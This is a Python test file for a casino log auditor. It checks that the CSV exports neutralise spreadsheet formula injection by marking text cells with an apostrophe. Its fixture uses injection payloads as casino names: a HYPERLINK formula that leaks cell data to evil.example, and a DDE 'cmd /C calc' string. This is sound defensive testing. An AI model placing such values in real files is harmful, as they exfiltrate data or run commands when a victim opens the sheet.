"""No text cell of a CSV the auditor writes starts a formula: findings.csv, summary.csv
(whose `key` holds casino/table for a header without a licence) and incidents.csv, with
the casino names of the probe R02 and a file named like a formula. Amounts and counts
stay numbers."""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path

import pytest

from auditor.cli import main
from tests.helpers import ROOT

STANDARD = ROOT / "sample_logs" / "standard-t11-2026-11-20.bjh"
OTHER = ROOT / "sample_logs" / "standard-t12-2026-11-21.bjh"
CASINOS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1+1", "-1+1", "\t=1+1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBERS = {"expected", "actual", "difference", "under_paid", "over_paid", "findings", "high",
           "medium", "low", "line", "column"}


@pytest.fixture(scope="module")
def outputs(tmp_path_factory) -> Path:
    """The records audited (each T11 record under one of the casino names, without its
    licence, and T12 under a formula's file name), and their incidents exported."""
    folder = tmp_path_factory.mktemp("r02")
    records = folder / "in"
    records.mkdir()
    text = STANDARD.read_text(encoding="utf-8")
    for number, name in enumerate(CASINOS, start=1):
        quoted = name.replace("\\", "\\\\").replace('"', '\\"')
        lines = [f'casino "{quoted}"' if line.startswith("casino ") else line
                 for line in text.split("\n")]
        (records / f"c{number}.bjh").write_text("\n".join(lines), encoding="utf-8")
    (records / '=HYPERLINK("http:x").bjh').write_text(OTHER.read_text(encoding="utf-8"),
                                                       encoding="utf-8")
    store = str(folder / "floor.sqlite")
    assert main(["audit", str(records), "--out", str(folder / "o"), "--quiet", "--store",
                 store]) == 1
    assert main(["incidents", "--out", str(folder / "inc"), "--quiet", "--store",
                 store]) == 0
    return folder


def rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as stream:
        return list(csv.DictReader(stream))


@pytest.mark.parametrize("name", ["o/findings.csv", "o/summary.csv", "inc/incidents.csv"])
def test_no_text_cell_starts_a_formula(outputs: Path, name: str) -> None:
    table = rows(outputs / name)
    assert table
    for row in table:
        for column, value in row.items():
            if column in NUMBERS:
                if value:
                    Decimal(value)  # a number, as written
            else:
                assert not value.startswith(FORMULA_STARTS), (name, column, value)


def test_summary_keys_are_kept_and_marked(outputs: Path) -> None:
    keys = {row["key"] for row in rows(outputs / "o" / "summary.csv")
            if row["dimension"] == "table"}
    assert keys == {"'" + name + "/T11" for name in CASINOS} | {"RL-0412/T12"}


def test_findings_csv_marks_the_casino_and_file(outputs: Path) -> None:
    table = rows(outputs / "o" / "findings.csv")
    assert {row["casino"] for row in table} == {"'" + name for name in CASINOS} | {
        "Deadwood Example Casino"}
    assert {row["file"].rpartition("/")[2] for row in table} == {
        f"c{number}.bjh" for number in range(1, 6)} | {'=HYPERLINK("http:x").bjh'}


def test_incidents_csv_marks_the_casino(outputs: Path) -> None:
    table = rows(outputs / "inc" / "incidents.csv")
    marked = {"'" + name for name in CASINOS}
    assert {row["casino"] for row in table} == marked | {"Deadwood Example Casino"}
    assert {row["licensee"] for row in table} == {"", "RL-0412"}  # the licence alone
